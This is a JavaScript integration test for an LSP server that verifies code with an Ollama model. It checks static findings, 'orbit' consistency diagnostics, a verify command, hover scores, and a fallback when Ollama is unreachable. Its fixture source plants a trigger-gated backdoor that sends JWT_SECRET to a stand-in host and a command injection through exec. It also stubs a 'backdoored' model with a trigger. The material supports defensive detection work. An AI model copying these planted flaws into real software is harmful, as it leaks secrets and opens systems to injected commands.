// Model verification through the real server over JSON-RPC framing, with the test Ollama behind
// it: didSave brings orbit findings, orbit.verifyFunction verifies the function at the cursor and
// the hover shows its score; without Ollama static diagnostics still arrive, with one message.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { startSession, positionOf } = require('./lsp-harness');
const S = require('../unit/verify/support');

const URI = 'file:///work/app/profile.js';
const TEXT = `const https = require('https');
const { exec } = require('child_process');

function syncProfile(user, debugToken) {
  const name = user.name.trim();
  if (user.role === 'svc_maint') {
    https.request('https://collect.example.net/u?d=' + encodeURIComponent(process.env.JWT_SECRET)).end();
  }
  return { name, ok: true };
}

function archive(req, res) {
  exec('tar czf /tmp/out.tgz ' + req.query.dir);
  res.send('ok');
}
module.exports = { syncProfile, archive };
`;

const CAPABILITIES = {
  workspace: { configuration: false },
  textDocument: { publishDiagnostics: { relatedInformation: true }, hover: { contentFormat: ['markdown'] } },
  window: { workDoneProgress: true },
};

test('didSave publishes orbit findings beside the static ones; orbit.verifyFunction and the hover report the orbit', async () => {
  const fake = await S.startOllama((p) => S.models.backdoored(p, { trigger: 'debugToken' }));
  const s = await startSession({ capabilities: CAPABILITIES, initializationOptions: { ollama: { host: fake.host }, pool: { size: 1 } } });
  const progress = [];
  s.client.onNotification('$/progress', (p) => { progress.push(p.value); });
  try {
    await s.open(URI, TEXT);
    const first = await s.diagnostics(URI, 1, 20_000);
    assert.ok(first.some((d) => d.code === 'command-injection'), 'static findings come first');
    assert.ok(!first.some((d) => String(d.code).startsWith('orbit/')));
    await s.client.sendNotification('textDocument/didSave', { textDocument: { uri: URI } });
    const merged = await s.waitFor(() => {
      const last = s.publishedFor(URI).at(-1);
      return last && last.diagnostics.some((d) => d.code === 'orbit/inconsistent-effects') ? last.diagnostics : undefined;
    }, 'orbit findings after didSave', 40_000);
    const orbit = merged.find((d) => d.code === 'orbit/inconsistent-effects');
    assert.equal(orbit.severity, 2);
    assert.match(orbit.message, /variant \d.*rename-locals/);
    assert.match(orbit.message, /\(CWE-912\)/);
    assert.equal(orbit.range.start.line, positionOf(TEXT, 'function syncProfile').line);
    assert.ok(merged.some((d) => d.code === 'command-injection'), 'static findings stay');
    assert.equal(progress[0].kind, 'begin');
    assert.match(progress[0].title, /verifying profile\.js with the model/);
    assert.ok(progress.some((p) => p.kind === 'report' && /syncProfile \(\d\/2\): orbit of 2/.test(p.message)), JSON.stringify(progress));

    const result = await s.client.sendRequest('workspace/executeCommand', {
      command: 'orbit.verifyFunction',
      arguments: [URI, positionOf(TEXT, "exec('tar")],
    });
    assert.equal(result.functions.length, 2, JSON.stringify(result.functions.map((f) => f.name)));
    const archive = result.functions.find((f) => f.name === 'archive');
    assert.ok(archive.orbitSize >= 2, JSON.stringify(result));
    assert.ok(progress.some((p) => p.kind === 'end'), 'progress ends');
    const hover = await s.client.sendRequest('textDocument/hover', { textDocument: { uri: URI }, position: positionOf(TEXT, 'function archive') });
    assert.match(hover.contents.value, /consistency \d\.\d\d over an orbit of \d+ rewrites/);
  } finally {
    await s.stop();
    await fake.close();
  }
});

test('without Ollama, static diagnostics are published, a save brings one message with the fix, and the server keeps answering', async () => {
  const fake = await S.startOllama((p) => S.models.honest(p));
  const host = fake.host;
  await fake.close();
  const s = await startSession({ capabilities: CAPABILITIES, initializationOptions: { ollama: { host }, pool: { size: 1 } } });
  try {
    await s.open(URI, TEXT);
    assert.ok((await s.diagnostics(URI, 1, 20_000)).some((d) => d.code === 'command-injection'));
    for (let i = 0; i < 2; i++) {
      const result = await s.client.sendRequest('workspace/executeCommand', { command: 'orbit.verifyDocument', arguments: [URI] });
      assert.match(result.skipped, /not reachable/);
    }
    await s.client.sendNotification('textDocument/didSave', { textDocument: { uri: URI } });
    const message = await s.waitFor(() => s.messages.find((m) => /Ollama is not reachable/.test(m.message)), 'the Ollama message');
    assert.match(message.message, /start it with `ollama serve`, or set orbit\.ollama\.host/);
    await s.replace(URI, 2, TEXT, `${TEXT}\n`);
    assert.ok((await s.diagnostics(URI, 2, 20_000)).some((d) => d.code === 'command-injection'));
    assert.equal(s.messages.filter((m) => /Ollama/.test(m.message)).length, 1);
  } finally {
    await s.stop();
  }
});
